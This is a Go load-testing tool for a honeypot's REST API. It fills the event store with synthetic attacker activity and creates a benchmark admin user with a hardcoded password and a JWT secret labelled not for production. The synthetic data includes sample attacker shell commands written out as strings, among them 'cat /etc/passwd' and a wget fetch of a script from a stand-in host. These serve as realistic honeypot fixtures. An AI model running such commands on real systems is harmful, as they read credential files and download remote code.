// Command apiload serves the REST API over a store filled with synthetic
// events, for load tests with a real HTTP load generator (see run.sh and
// docs/benchmarks.md). It is a measurement tool, not part of decnet.
//
// It fills the store up to -rows logs (deterministically, so runs compare),
// profiles every attacker, creates the admin user "bench" with the password
// in -password, serves the API and the dashboard on -listen and prints "ready" once it
// answers. It stops on SIGINT or SIGTERM.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"log/slog"
	"math/rand/v2"
	"net"
	"net/http"
	_ "net/http/pprof"
	"os"
	"os/signal"
	"path/filepath"
	"strconv"
	"syscall"
	"time"

	"decnet/internal/api"
	"decnet/internal/event"
	"decnet/internal/profile"
	"decnet/internal/store"
	"decnet/internal/web"
)

func main() {
	dbType := flag.String("db-type", "sqlite", "sqlite, mysql or postgres")
	dbURL := flag.String("db-url", "", "database file or URL (sqlite default: <dir>/bench.db)")
	dir := flag.String("dir", filepath.Join(os.TempDir(), "decnet-apiload"), "working directory")
	rows := flag.Int("rows", 1_000_000, "logs the store must hold")
	listen := flag.String("listen", "127.0.0.1:18080", "API address")
	password := flag.String("password", "bench-password", "password of the admin user bench")
	pprofAddr := flag.String("pprof", "", "serve net/http/pprof on this address too")
	flag.Parse()
	log := slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelWarn}))
	if *pprofAddr != "" {
		go http.ListenAndServe(*pprofAddr, nil)
	}
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	if err := run(ctx, *dbType, *dbURL, *dir, *rows, *listen, *password, log); err != nil {
		fmt.Fprintln(os.Stderr, "apiload:", err)
		os.Exit(1)
	}
}

func run(ctx context.Context, dbType, dbURL, dir string, rows int, listen, password string, log *slog.Logger) error {
	if err := os.MkdirAll(dir, 0o700); err != nil {
		return err
	}
	if dbURL == "" && dbType == store.TypeSQLite {
		dbURL = filepath.Join(dir, "bench.db")
	}
	repo, err := store.Open(ctx, dbType, dbURL)
	if err != nil {
		return err
	}
	defer repo.Close()
	if err := fill(ctx, repo, rows); err != nil {
		return err
	}
	start := time.Now()
	prof := profile.New(repo, profile.Options{Logger: log})
	for {
		n, err := prof.Step(ctx)
		if err != nil {
			return fmt.Errorf("profile: %w", err)
		}
		if n == 0 {
			break
		}
	}
	fmt.Fprintf(os.Stderr, "profiled in %s\n", time.Since(start).Round(time.Millisecond))

	if _, err := repo.UserByName(ctx, "bench"); errors.Is(err, store.ErrNotFound) {
		hash, err := api.HashPassword(password)
		if err != nil {
			return err
		}
		if err := repo.CreateUser(ctx, store.User{Username: "bench", PasswordHash: hash, Role: store.RoleAdmin}); err != nil {
			return err
		}
	} else if err != nil {
		return err
	}
	secret := []byte("apiload-secret-not-for-production-use-0123456789")
	srv, err := api.New(api.Config{Repo: repo, JWTSecret: secret, Logger: log})
	if err != nil {
		return err
	}
	dash, err := web.New(web.Config{API: srv.Handler(), Secret: secret, Logger: log})
	if err != nil {
		return err
	}
	ln, err := net.Listen("tcp", listen)
	if err != nil {
		return err
	}
	hs := &http.Server{Handler: dash.Handler(), ReadHeaderTimeout: 5 * time.Second, IdleTimeout: 120 * time.Second}
	go func() {
		<-ctx.Done()
		sctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		hs.Shutdown(sctx)
	}()
	fmt.Println("ready")
	if err := hs.Serve(ln); !errors.Is(err, http.ErrServerClosed) {
		return err
	}
	return nil
}

// fill ingests synthetic events until the store holds rows logs: 10
// deckies, 2,000 attacker addresses of very unequal activity, a month of
// timestamps, and the event mix of an exposed fleet (mostly connects, some
// logins, commands and HTTP requests).
func fill(ctx context.Context, repo store.Repository, rows int) error {
	st, err := repo.Stats(ctx)
	if err != nil {
		return err
	}
	have := int(st.TotalLogs)
	if have >= rows {
		return nil
	}
	rng := rand.New(rand.NewPCG(1, uint64(have)))
	zipf := rand.NewZipf(rng, 1.3, 4, 1999)
	services := []string{"ssh", "http", "redis", "ftp", "smb", "mysql"}
	users := []string{"root", "admin", "ubuntu", "oracle", "test", "pi"}
	commands := []string{"uname -a", "cat /etc/passwd", "wget http://203.0.113.7/x.sh", "id", "ls -la /tmp"}
	agents := []string{"Mozilla/5.0 zgrab/0.x", "curl/7.88.1", "Nmap Scripting Engine", "python-requests/2.31"}
	end := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	span := 30 * 24 * time.Hour
	start := time.Now()
	batch := make([]event.Record, 0, 1000)
	for i := have; i < rows; i++ {
		ts := end.Add(-span + span/time.Duration(rows)*time.Duration(i))
		ip := "198.51." + strconv.Itoa(int(zipf.Uint64()/250)) + "." + strconv.Itoa(int(zipf.Uint64()%250)+1)
		e := event.Event{
			Time:     ts,
			Decky:    fmt.Sprintf("decky-%02d", rng.IntN(10)+1),
			Service:  services[rng.IntN(len(services))],
			Severity: event.Info,
			Fields:   map[string]string{"src_ip": ip, "src_port": strconv.Itoa(rng.IntN(60000) + 1024)},
		}
		switch p := rng.IntN(100); {
		case p < 40:
			e.Type = "connect"
		case p < 80:
			e.Type = "disconnect"
		case p < 90:
			e.Type = "auth"
			e.Fields["username"] = users[rng.IntN(len(users))]
			e.Fields["password"] = "pw" + strconv.Itoa(rng.IntN(5000))
			e.Fields["success"] = "false"
		case p < 95:
			e.Type = "command"
			e.Service = "ssh"
			e.Fields["command"] = commands[rng.IntN(len(commands))]
		default:
			e.Type = "request"
			e.Service = "http"
			e.Fields["method"] = "GET"
			e.Fields["path"] = "/" + strconv.Itoa(rng.IntN(100))
			e.Fields["user_agent"] = agents[rng.IntN(len(agents))]
		}
		batch = append(batch, event.NewRecord(e))
		if len(batch) == cap(batch) || i == rows-1 {
			if err := repo.Ingest(ctx, batch, "", nil); err != nil {
				return err
			}
			batch = batch[:0]
		}
	}
	fmt.Fprintf(os.Stderr, "filled %d rows in %s\n", rows-have, time.Since(start).Round(time.Millisecond))
	return nil
}
